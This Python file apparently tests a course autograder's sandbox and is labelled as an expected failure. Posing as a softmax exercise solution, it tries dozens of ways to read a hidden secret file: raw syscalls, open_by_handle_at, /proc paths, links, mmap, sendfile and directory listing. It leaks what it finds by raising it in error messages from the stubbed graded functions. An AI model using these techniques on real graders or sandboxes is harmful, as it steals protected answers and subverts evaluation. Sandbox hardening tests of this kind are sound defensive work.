# verdict: failed
# exercise: exercise07_softmax
# example: the file system: solutions
# One hidden file, by every way that there is to a file's content.

import ctypes
import linecache
import mmap
import os
import re
import tokenize

import numpy as np

TARGET = "@COURSE@/secret.txt"
libc = ctypes.CDLL(None, use_errno=True)


def by_fd(number):
    if number < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return os.pread(number, 4096, 0)


def by_link(make, name):
    make(TARGET, name)
    with open(name, "rb") as file:
        return file.read()


def by_map():
    with open(TARGET, "rb") as file:
        return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:]


def by_sendfile():
    source = os.open(TARGET, os.O_RDONLY)
    with open("copy", "w+b") as copy:
        os.sendfile(copy.fileno(), source, 0, 4096)
        copy.seek(0)
        return copy.read()


def by_handle():
    """open_by_handle_at knows no folders, and so none that are closed."""
    handle = ctypes.create_string_buffer(256)
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount = ctypes.c_int()
    libc.syscall(303, -100, TARGET.encode(), handle, ctypes.byref(mount), 0)
    return by_fd(libc.syscall(304, os.open("/", os.O_RDONLY), handle, 0))


WAYS = [
    lambda: open(TARGET, "rb").read(),
    lambda: open(TARGET.encode(), "rb", opener=lambda path, flags: os.open(path, flags)).read(),
    lambda: "".join(linecache.getlines(TARGET)).encode(),
    lambda: tokenize.open(TARGET).read().encode(),
    lambda: np.fromfile(TARGET, dtype=np.uint8).tobytes(),
    lambda: np.memmap(TARGET, dtype=np.uint8, mode="r").tobytes(),
    lambda: b"".join(np.genfromtxt(TARGET, dtype="S999", delimiter="\0", ndmin=1).tolist()),
    lambda: by_fd(libc.open(TARGET.encode(), 0)),
    lambda: by_fd(libc.syscall(2, TARGET.encode(), 0)),
    lambda: by_fd(libc.syscall(257, -100, TARGET.encode(), 0, 0)),
    lambda: by_fd(libc.syscall(437, -100, TARGET.encode(), ctypes.create_string_buffer(24), 24)),
    lambda: by_fd(libc.syscall(257, -100, TARGET.encode(), 0o10000000, 0)),  # O_PATH
    lambda: by_link(os.symlink, "symbolic"),
    lambda: by_link(os.link, "hard"),
    lambda: by_link(os.rename, "moved"),
    lambda: by_link(lambda old, new: libc.rename(old.encode(), new.encode()), "moved2"),
    lambda: os.read(os.open(TARGET[1:], os.O_RDONLY, dir_fd=os.open("/", os.O_RDONLY)), 4096),
    lambda: open(f"/proc/self/root{TARGET}", "rb").read(),
    lambda: open(f"/proc/self/cwd/../..{TARGET}", "rb").read(),
    lambda: open(f"/proc/@COMMAND@/root{TARGET}", "rb").read(),
    lambda: open("/proc/@COMMAND@/cwd/secret.txt", "rb").read(),
    by_map, by_sendfile, by_handle,
    lambda: os.getxattr(TARGET, "user.comment"),
    lambda: b"MARK" + b"ER{listed %s}" % repr(os.listdir("@COURSE@")).encode(),
    lambda: b"MARK" + b"ER{scanned %s}" % repr(list(os.scandir("@COURSE@"))).encode(),
]
TOLD = []
for way in WAYS:
    try:
        TOLD.append(b" ".join(re.findall(rb"MARKER\{[^}\\]+\}", way())))
    except Exception as error:
        TOLD.append(type(error).__name__)


def attack(*_args, **_kwargs):
    raise RuntimeError(f"{TOLD}")


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
